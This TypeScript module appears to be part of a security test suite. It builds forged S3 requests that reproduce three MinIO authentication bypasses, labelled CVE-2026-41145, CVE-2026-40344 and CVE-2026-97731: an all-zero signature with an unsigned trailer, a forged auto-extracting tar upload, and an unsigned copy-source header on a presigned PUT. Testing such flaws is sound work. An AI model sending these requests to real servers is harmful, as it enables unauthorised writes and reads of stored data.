import { AwsV4Signer } from "aws4fetch";

import { minioRegion } from "../../config/names.ts";
import type { Call, KeyPair } from "./minio.ts";

/** `hello`, as a body whose trailer no signature covers. */
const content = "5\r\nhello\r\n0\r\nx-amz-checksum-crc32:NhCmhg==\r\n\r\n";
const unsignedTrailer = {
  "x-amz-content-sha256": "STREAMING-UNSIGNED-PAYLOAD-TRAILER",
  "x-amz-decoded-content-length": "5",
  "x-amz-trailer": "x-amz-checksum-crc32",
  "content-encoding": "aws-chunked",
};
const noSignature = "0".repeat(64);

function basicTime(): { readonly now: string; readonly scope: string } {
  const now = new Date().toISOString().replaceAll(/[-:]|\.\d+/g, "");
  return { now, scope: `${now.slice(0, 8)}/${minioRegion}/s3/aws4_request` };
}

/** CVE-2026-41145: an access key, as every URL shows one, with a made-up signature writes an object. */
export function forgedPut(accessKey: string, path: string): Call {
  const { now, scope } = basicTime();
  const query = new URLSearchParams({
    "X-Amz-Algorithm": "AWS4-HMAC-SHA256",
    "X-Amz-Credential": `${accessKey}/${scope}`,
    "X-Amz-Date": now,
    "X-Amz-Expires": "900",
    "X-Amz-SignedHeaders": "host",
    "X-Amz-Signature": noSignature,
  });
  return { method: "PUT", path: `${path}?${query.toString()}`, headers: unsignedTrailer, body: content };
}

/** CVE-2026-40344: the same by header, for an archive that MinIO unpacks beside the path. */
export function forgedArchive(accessKey: string, path: string): Call {
  const { now, scope } = basicTime();
  const [, bucket = "", ...rest] = path.split("/");
  const name = rest.pop() ?? "";
  const headers = {
    "x-amz-content-sha256": unsignedTrailer["x-amz-content-sha256"],
    authorization: `AWS4-HMAC-SHA256 Credential=${accessKey}/${scope}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=${noSignature}`,
    "x-amz-date": now,
    "x-amz-meta-snowball-auto-extract": "true",
    "x-amz-meta-minio-snowball-prefix": rest.join("/"),
  };
  return {
    method: "PUT",
    path: `/${bucket}/${rest.join("/")}/archive.tar`,
    headers,
    body: archiveOf(name, "hello"),
  };
}

/** A tar of one short file (POSIX.1-1988 ustar). */
function archiveOf(name: string, content: string): Buffer {
  const head = Buffer.alloc(512);
  const octal = (value: number, length: number): string => `${value.toString(8).padStart(length - 1, "0")}\0`;
  head.write(name, 0);
  head.write(octal(0o644, 8), 100);
  head.write(octal(0, 8) + octal(0, 8), 108);
  head.write(octal(content.length, 12) + octal(0, 12), 124);
  head.write(" ".repeat(8), 148);
  head.write("0", 156);
  head.write("ustar\u000000", 257, "latin1");
  const sum = head.reduce((total, byte) => total + byte, 0);
  head.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
  const body = Buffer.alloc(512);
  body.write(content);
  return Buffer.concat([head, body, Buffer.alloc(1024)]);
}

/** CVE-2026-97731: a copy source that no signature covers turns a signed PUT into a read of what the key can read. */
export async function copyBySignedPut(
  pair: KeyPair,
  origin: string,
  path: string,
  source: string,
): Promise<Call> {
  const { url } = await new AwsV4Signer({
    method: "PUT",
    url: `${origin}${path}`,
    accessKeyId: pair.accessKey,
    secretAccessKey: pair.secretKey,
    service: "s3",
    region: minioRegion,
    signQuery: true,
  }).sign();
  return { method: "PUT", path: url.pathname + url.search, headers: { "x-amz-copy-source": source } };
}
